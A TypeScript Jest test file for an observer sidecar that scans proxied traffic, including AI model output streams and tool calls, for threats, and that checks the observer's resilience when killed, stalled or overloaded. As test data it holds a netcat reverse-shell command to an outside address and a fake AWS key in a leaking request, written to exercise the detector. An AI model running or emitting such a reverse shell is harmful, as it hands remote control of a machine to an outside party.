import { afterEach, describe, expect, test } from '@jest/globals';
import { createHash, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { readdirSync, readFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { Worker } from 'node:worker_threads';
import { WebSocket, WebSocketServer } from 'ws';
import type { FindingDraft } from '../../src/findings/finding.js';
import type { FlowCoverage } from '../../src/observe/content.js';
import { Observer, type ObserverEvent, type ObserverOptions } from '../../src/observe/observer.js';
import { pieces } from '../observe/support/exchanges.js';
import { curl } from '../support/curl.js';
import { until } from '../support/guardian.js';
import { startHttpOrigin, type Origin } from '../support/origin.js';
import { TEST_FLOW } from '../support/recording-sink.js';
import { startTestProxy, type TestProxy } from '../support/proxy.js';
import { basicOf } from '../support/raw.js';

const PROGRAM = new URL('../../src/sidecar/observer-program.js', import.meta.url);
const SHELL = 'nc 203.0.113.7 4444 -e /bin/sh';
const BIG = randomBytes(40 * 1024 * 1024);
/** A command in pieces, then as a whole in two events more, as OpenAI's Responses interface streams a text. */
const REPLY = [
  ...SHELL.split(' ').map((word) => ({ type: 'response.output_text.delta', item_id: 'm', delta: `${word} ` })),
  { type: 'response.output_text.done', item_id: 'm', text: SHELL },
  { type: 'response.completed', response: { output: [{ content: [{ type: 'output_text', text: SHELL }] }] } },
]
  .map((event) => `data: ${JSON.stringify(event)}\n\n`)
  .join('');
/** A call of a tool as OpenAI's Realtime interface sends it over a WebSocket: in pieces, then whole in three messages more. */
const ARGUMENTS = JSON.stringify({ command: SHELL });
const callOf = (item_id: string): object[] => [
  { type: 'response.created', response: { output: [] } },
  ...pieces(ARGUMENTS).map((delta) => ({ type: 'response.function_call_arguments.delta', item_id, delta })),
  { type: 'response.function_call_arguments.done', item_id, arguments: ARGUMENTS },
  { type: 'conversation.item.done', item: { type: 'function_call', arguments: ARGUMENTS } },
  { type: 'response.done', response: { output: [{ type: 'function_call', arguments: ARGUMENTS }] } },
];
/** A key of AWS that leaves, behind enough text that it would not fit beside a flood. */
const LEAK = ((body: string) =>
  Buffer.from(`POST / HTTP/1.1\r\nhost: stranger.invalid\r\ncontent-length: ${body.length}\r\n\r\n${body}`))(
  `${'a line of a report\n'.repeat(1_000)}key: ${['AKIA', 'Q3EGRT5ZKLMN7BXD'].join('')}`,
);
const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex');

/** A proxy whose flows go to a real observer thread. */
class Bench {
  readonly drafts: FindingDraft[] = [];
  readonly closed: FlowCoverage[] = [];
  readonly events: ObserverEvent[] = [];
  observer!: Observer;
  proxy!: TestProxy;
  origin!: Origin;

  async start(options: Partial<ObserverOptions> = {}): Promise<void> {
    this.observer = new Observer({
      program: PROGRAM,
      programData: { fingerprintKey: randomBytes(32), findingKey: randomBytes(32), maxScanBytes: 64 * 1024 * 1024 },
      ringBytes: 16 * 1024 * 1024,
      stalledAfterMs: 500,
      onMessage: (drafts) => void this.drafts.push(...(drafts as FindingDraft[])),
      onFlowClosed: (_flow, coverage) => void this.closed.push(coverage),
      onEvent: (event) => void this.events.push(event),
      ...options,
    });
    await this.observer.start();
    this.origin = await startHttpOrigin((request, response) => {
      if (request.url === '/big') {
        // In pieces, so that things can happen in the middle.
        let sent = 0;
        const send = (): void => {
          const piece = BIG.subarray(sent, (sent += 512 * 1024));
          if (piece.length === 0) response.end();
          else response.write(piece, () => setImmediate(send));
        };
        response.setHeader('content-length', BIG.length);
        send();
      } else if (request.url === '/reply') {
        response.setHeader('content-type', 'text/event-stream').end(REPLY);
      } else {
        response.end(SHELL);
      }
    });
    this.proxy = await startTestProxy({ allow: [`localhost:${this.origin.port}`], tap: this.observer });
  }

  async stop(): Promise<void> {
    await this.proxy.close();
    await this.observer.stop(2_000);
    await this.origin.close();
  }

  /** A download during which something is done to the observer; the client must not notice. */
  async downloadWhile(disturb: () => Promise<void>): Promise<void> {
    const download = curl(this.proxy.url, ['--limit-rate', '80M', `${this.origin.url}/big`]);
    await until(
      async () => this.proxy.door.connections,
      (count) => count > 0,
    );
    await disturb();
    const { exitCode, body } = await download;
    expect({ exitCode, hash: sha256(body) }).toEqual({ exitCode: 0, hash: sha256(BIG) });
  }

  async findsAgain(): Promise<void> {
    const before = this.drafts.length;
    await curl(this.proxy.url, [`${this.origin.url}/shell`]);
    await until(
      async () => this.drafts.length,
      (count) => count > before,
    );
    expect(this.drafts.at(-1)).toMatchObject({ pattern: 'reverse_shell' });
  }
}

const TASKS = '/proc/self/task';
const testOnLinux = process.platform === 'linux' ? test : test.skip;
if (process.platform !== 'linux') console.log('skipped: how often a thread wakes is told by Linux alone');

/** How often a thread of this process has gone to sleep (proc(5)). */
function sleepsOf(thread: string): number {
  return Number(/^voluntary_ctxt_switches:\s*(\d+)$/m.exec(readFileSync(`${TASKS}/${thread}/status`, 'latin1'))?.[1]);
}

let bench: Bench;
afterEach(() => bench.stop());

describe('an observer with nothing to look at', () => {
  testOnLinux('wakes a few times a second at most, and looks at what comes all the same', async () => {
    bench = new Bench();
    const before = new Set(readdirSync(TASKS));
    await bench.start();
    const threads = readdirSync(TASKS).filter((thread) => !before.has(thread));
    expect(threads.length).toBeGreaterThan(0);
    const wakings = async (): Promise<number> => {
      const counted = threads.map(sleepsOf);
      await delay(500);
      return Math.max(...threads.map((thread, i) => sleepsOf(thread) - counted[i]!));
    };
    expect(await until(wakings, (count) => count <= 10)).toBeLessThanOrEqual(10);
    await bench.findsAgain();
    expect(await until(wakings, (count) => count <= 10)).toBeLessThanOrEqual(10);
  });
});

describe('nobody waits for the observer', () => {
  test('killed in the middle of a download: the bytes are whole, the loss is counted, another one goes on', async () => {
    bench = new Bench();
    await bench.start();
    await bench.downloadWhile(async () => {
      for (let i = 1; i <= 3; i++) {
        await bench.observer.killForTest();
        const started = (): number => bench.events.filter(({ kind }) => kind === 'started').length;
        await until(
          async () => started(),
          (count) => count > i,
        );
      }
    });
    const [coverage] = await until(
      async () => bench.closed,
      (closed) => closed.length > 0,
    );
    const { seen = 0, truncated = 0, dropped = 0, unparsed = 0 } = coverage ?? {};
    expect(dropped + truncated + unparsed).toBeGreaterThan(0);
    expect(seen + truncated + dropped + unparsed).toBeGreaterThan(BIG.length);
    await bench.findsAgain();
  });

  test('stalled: it is noticed and replaced, and the download does not wait', async () => {
    bench = new Bench();
    // A program that says it is ready and then never looks at its ring again.
    const source = `import { parentPort } from 'node:worker_threads';
      parentPort.postMessage({ kind: 'ready' }); for (;;) {}`;
    await bench.start({ program: new URL(`data:text/javascript,${encodeURIComponent(source)}`) });
    await bench.downloadWhile(async () => {
      await until(
        async () => bench.observer.replaced,
        (replaced) => replaced > 0,
      );
    });
    expect(bench.events).toContainEqual({ kind: 'replaced', reason: 'stalled' });
  });

  test('not able to start for a while: the first that is able gets the time that it takes to begin', async () => {
    bench = new Bench();
    // The first start succeeds, as it must; the five that follow fail, and the pauses between them grow to seconds.
    const source = `import { workerData } from 'node:worker_threads';
      const earlier = Atomics.add(workerData.program.starts, 0, 1);
      if (earlier >= 1 && earlier <= 5) throw new Error('no memory');
      await import('${PROGRAM.href}');`;
    const keys = { fingerprintKey: randomBytes(32), findingKey: randomBytes(32) };
    const starts = new Int32Array(new SharedArrayBuffer(4));
    await bench.start({
      program: new URL(`data:text/javascript,${encodeURIComponent(source)}`),
      programData: { ...keys, maxScanBytes: 1024 * 1024, starts },
    });
    await bench.observer.killForTest();
    // What passes meanwhile waits in the ring, and nobody takes it.
    await curl(bench.proxy.url, [`${bench.origin.url}/shell`]);
    await until(
      async () => bench.events.filter(({ kind }) => kind === 'started').length,
      (count) => count === 2,
    );
    await bench.findsAgain();
    expect(bench.events).not.toContainEqual({ kind: 'replaced', reason: 'stalled' });
    expect(starts[0]).toBe(7);
  });

  test('overloaded: what does not fit is dropped and counted to the byte', async () => {
    bench = new Bench();
    await bench.start({ ringBytes: 128 * 1024, stalledAfterMs: 60_000 });
    await bench.downloadWhile(async () => undefined);
    const [coverage] = await until(
      async () => bench.closed,
      (closed) => closed.length > 0,
    );
    const { seen = 0, truncated = 0, dropped = 0, unparsed = 0 } = coverage ?? {};
    const total = seen + truncated + dropped + unparsed;
    expect(total).toBeGreaterThan(BIG.length);
    expect(total).toBeLessThan(BIG.length + 2_000);
    await bench.findsAgain();
  });

  test('overloaded by one agent: what another one sends is looked at all the same', async () => {
    bench = new Bench();
    await bench.start({
      ringBytes: 1024 * 1024,
      stalledAfterMs: 60_000,
      onFlowClosed: ({ agent }, coverage) => void byAgent.set(agent, coverage),
    });
    const byAgent = new Map<string, FlowCoverage>();
    const flood = bench.observer.open({ ...TEST_FLOW, agent: 'flooding' });
    const modest = bench.observer.open({ ...TEST_FLOW, agent: 'modest' });
    flood.outbound(Buffer.from(`POST / HTTP/1.1\r\nhost: stranger.invalid\r\ncontent-length: ${BIG.length}\r\n\r\n`));
    // In one turn: faster than any thread reads.
    for (let sent = 0; sent < BIG.length; sent += 1024) {
      flood.outbound(BIG.subarray(sent, sent + 1024));
      if (sent === BIG.length / 2) modest.outbound(LEAK);
    }
    for (const tap of [flood, modest]) tap.close();
    await until(
      async () => byAgent.size,
      (closed) => closed === 2,
    );
    expect(byAgent.get('flooding')?.dropped).toBeGreaterThan(0);
    expect(byAgent.get('modest')).toMatchObject({ seen: LEAK.length, dropped: 0, unparsed: 0 });
    expect(bench.drafts.map(({ agent, pattern }) => [agent, pattern])).toEqual([['modest', 'aws_access_key_id']]);
  });
});

test('what is found is told while others go on sending without a pause', async () => {
  bench = new Bench();
  await bench.start({ stalledAfterMs: 60_000 });
  const busy = bench.observer.open({ ...TEST_FLOW, agent: 'busy' });
  bench.observer.open({ ...TEST_FLOW, agent: 'leaking' }).outbound(LEAK);
  let sent = 0;
  const told = until(
    async () => bench.drafts,
    (drafts) => drafts.length > 0,
  );
  const sending = setInterval(() => {
    busy.outbound(Buffer.from(`GET /${sent++} HTTP/1.1\r\nhost: stranger.invalid\r\n\r\n`));
  }, 1);
  expect((await told).map(({ agent }) => agent)).toEqual(['leaking']);
  clearInterval(sending);
  expect(sent).toBeGreaterThan(0);
});

test('what a model says once is one finding, however often its stream says it', async () => {
  bench = new Bench();
  await bench.start({ stalledAfterMs: 60_000 });
  for (const replies of [1, 2]) {
    await curl(bench.proxy.url, [`${bench.origin.url}/reply`]);
    // All that is found in a reply is handed over at once, when nothing more arrives.
    await until(
      async () => bench.drafts,
      (drafts) => drafts.length >= replies,
    );
    expect(bench.drafts.map(({ pattern, location }) => [pattern, location])).toEqual(
      Array.from({ length: replies }, () => ['reverse_shell', 'event']),
    );
  }
});

test('what a model asks for once over a WebSocket is one finding, and asked for again it is another', async () => {
  bench = new Bench();
  await bench.start({ stalledAfterMs: 60_000 });
  const sockets = new WebSocketServer({ port: 0, host: '127.0.0.1' });
  await once(sockets, 'listening');
  sockets.on('connection', (socket) => {
    let calls = 0;
    socket.on('message', () => {
      for (const event of callOf(`call ${++calls}`)) socket.send(JSON.stringify(event));
    });
  });
  const { port } = sockets.address() as AddressInfo;
  const proxy = await startTestProxy({ allow: [`127.0.0.1:${port}`], tap: bench.observer });
  const client = new WebSocket(`ws://127.0.0.1:${proxy.port}/`, {
    headers: { 'proxy-authorization': basicOf(proxy.url) },
    finishRequest: (request) => {
      request.path = `http://127.0.0.1:${port}/`;
      request.end();
    },
  });
  await once(client, 'open');
  for (const replies of [1, 2]) {
    client.send('go on');
    await until(
      async () => bench.drafts,
      (drafts) => drafts.length >= replies,
    );
    expect(bench.drafts.map(({ pattern, location }) => [pattern, location])).toEqual(
      Array.from({ length: replies }, () => ['reverse_shell', 'tool_call']),
    );
  }
  client.terminate();
  sockets.close();
  await proxy.close();
});

test('a thread that is given nonsense ends, and says so', async () => {
  bench = new Bench();
  await bench.start();
  const worker = new Worker(PROGRAM, { workerData: {} });
  const error = await new Promise<Error>((resolve) => worker.once('error', resolve));
  expect(error.message).toContain('thread of Observer');
});
